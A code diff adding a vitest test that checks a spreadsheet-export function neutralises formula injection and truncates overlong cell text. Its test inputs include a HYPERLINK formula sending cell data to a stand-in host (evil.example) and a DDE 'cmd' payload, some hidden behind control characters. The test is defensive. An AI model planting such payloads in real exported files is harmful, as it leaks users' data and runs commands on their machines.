@@ -2,7 +2,13 @@ import { buffer } from 'node:stream/consumers';
 import ExcelJS from 'exceljs';
 import { strFromU8, unzipSync } from 'fflate';
 import { describe, expect, it } from 'vitest';
-import { dayValue, streamWorkbook, wallClockIn, type SheetColumn } from './workbook.ts';
+import {
+  dayValue,
+  maxCellCharacters,
+  streamWorkbook,
+  wallClockIn,
+  type SheetColumn,
+} from './workbook.ts';
 
 type Record = { i: number };
 
@@ -75,6 +81,39 @@ describe('streamWorkbook', () => {
     expect(first?.getCell(7).value).toBeNull();
     expect(sheet?.getRow(3).getCell(6).value).toBe(false);
     expect(sheet?.getColumn(2).width).toBe(30);
+  });
+
+  it('keeps a formula-like text inert though control characters hide it, and cuts a text to what a cell holds', async () => {
+    const texts = [
+      '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+      '\u0001=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+      "\u0000\u0008+1+cmd|' /C calc'!A0",
+      '\u001f@SUM(1)',
+      '-2+3',
+      'x'.repeat(maxCellCharacters + 10),
+      `${'y'.repeat(maxCellCharacters - 47)}\u{1F600}${'z'.repeat(100)}`,
+    ];
+    const stream = streamWorkbook<Record>({
+      sheetName: 'Texts',
+      columns: [{ header: 'Text', key: 'text' }],
+      batch: source(texts.length).batch,
+      row: ({ i }) => ({ text: texts[i] ?? '' }),
+    });
+    const sheet = (await read(await buffer(stream))).worksheets[0];
+    const cells = texts.map((_text, i) => String(sheet?.getRow(i + 2).getCell(1).value));
+    expect(cells.slice(0, 5)).toEqual([
+      `'=HYPERLINK("http://evil.example/?x="&A1,"Click")`,
+      `'=HYPERLINK("http://evil.example/?x="&A1,"Click")`,
+      `'+1+cmd|' /C calc'!A0`,
+      `'@SUM(1)`,
+      `'-2+3`,
+    ]);
+    for (const cell of cells.slice(5)) {
+      expect(cell.length).toBeLessThanOrEqual(maxCellCharacters);
+      expect(cell.endsWith('… (cut: longer than a spreadsheet cell holds)')).toBe(true);
+      // No lone half of a surrogate pair where the text was cut.
+      expect(cell).not.toMatch(/[\ud800-\udbff](?![\udc00-\udfff])/);
+    }
   });
 
   it('writes every number as String writes it, and a moment to a tenth of a millisecond', async () => {
